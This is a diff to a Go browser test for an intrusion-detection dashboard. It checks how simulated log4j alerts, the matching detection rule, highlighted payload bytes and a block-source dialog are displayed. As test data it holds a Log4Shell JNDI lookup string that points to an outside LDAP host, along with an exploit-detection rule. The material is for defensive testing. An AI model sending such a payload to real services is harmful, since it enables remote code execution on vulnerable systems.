@@ -248,6 +248,7 @@ alert http any any -> any any (msg:"ET EXPLOIT Apache log4j RCE Attempt"; conten
 	attacker := netip.MustParseAddr("203.0.113.77")
 	before := time.Now()
 	w.sensors[0].raise(log4j, attacker, before, false)
+	w.sensors[0].raise(attacks[4], attacker, before.Add(-2*time.Millisecond), false)
 	b.wait(t, "the alert shows", rows("log4j")+`.some((r) => r.textContent.includes("203.0.113.77"))`)
 	t.Logf("alert seen in the browser %s after it was raised", time.Since(before).Round(time.Millisecond))
 	if d := time.Since(before); d > 2*time.Second {
@@ -272,12 +273,18 @@ alert http any any -> any any (msg:"ET EXPLOIT Apache log4j RCE Attempt"; conten
 	b.wait(t, "detail", `document.querySelector(".detail h2")?.textContent.includes("log4j")`)
 	b.wait(t, "payload", `document.querySelector("[data-testid=payload]")?.textContent.includes("\${jndi:ldap://198.51.100.9:1389/a}")`)
 	b.wait(t, "rule", `[...document.querySelectorAll(".detail pre")].some((p) => p.textContent.startsWith("alert http any any") && p.textContent.includes("sid:2034647;"))`)
+	b.wait(t, "what the rule looks for is marked", `document.querySelector("[data-testid=payload] mark")?.textContent === "jndi" && [...document.querySelectorAll(".detail pre mark")].some((m) => m.textContent === '"jndi"')`)
+	b.wait(t, "the flow's other alert", `document.querySelectorAll(".same-flow li").length === 2 && document.querySelector(".same-flow").textContent.includes("id check")`)
+	b.wait(t, "its packet", `document.querySelector(".payload-head a[download]").getAttribute("href").endsWith("/packet")`)
 	b.shoot(t, "detail-light")
+	b.do(t, "hex", chromedp.Click(`//button[text()="Hex"]`))
+	b.wait(t, "marked in hex and text", `[...document.querySelectorAll(".payload.hex mark")].map((m) => m.textContent).join() .startsWith("6a 6e 64 69,jndi")`)
+	b.shoot(t, "detail-hex-light")
 
 	// Block its source, after seeing what that would hit.
 	b.key(t, "b")
 	b.wait(t, "dialog", `document.querySelector("dialog[open] #f-src")?.value === "203.0.113.77"`)
-	b.wait(t, "preview", `/^1alert /.test(document.querySelector("[data-testid=preview] dl")?.textContent) && document.querySelector("[data-testid=preview]").textContent.includes("3sensors")`)
+	b.wait(t, "preview", `/^2alerts /.test(document.querySelector("[data-testid=preview] dl")?.textContent) && document.querySelector("[data-testid=preview]").textContent.includes("3sensors")`)
 	b.shoot(t, "block-light")
 	b.do(t, "block", chromedp.Click("dialog[open] footer .danger"))
 	b.wait(t, "verdict listed", `[...document.querySelectorAll("[data-verdict] .match")].some((m) => m.textContent === "203.0.113.77")`)
